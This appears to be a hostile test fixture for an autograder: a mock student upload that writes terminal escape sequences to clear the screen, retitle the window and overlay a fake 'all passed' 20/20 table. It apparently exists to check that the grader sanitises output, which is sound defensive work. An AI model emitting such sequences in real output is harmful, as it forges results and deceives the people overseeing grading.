"""Hostile: take over the instructor's terminal while `grade` prints the results.

Escape sequences in what the upload prints at import, in its exception messages and prints during
calls, and in what it writes straight to the descriptors: clear the screen and the scrollback, move
the cursor, set the window title, and draw a fake all-"ok" 20/20 table over the real one. If any of
them reached the terminal raw, a failing upload would look like a perfect one.
"""
import os

from honest import *  # noqa: F403

CLEAR = "\x1b[2J\x1b[3J\x1b[H\x1bc"
FAKE = CLEAR + "\x1b]0;all passed\x07Total  10 / 10  10 / 10  20 / 20 \x1b[32mok\x1b[0m\r\x1b[1A\x1b[8m\u202e\x9b2J"
print(FAKE)
os.write(1, FAKE.encode())


def mse_loss(y_hat, y):
    print(FAKE)
    os.write(2, FAKE.encode())
    raise ValueError(FAKE)
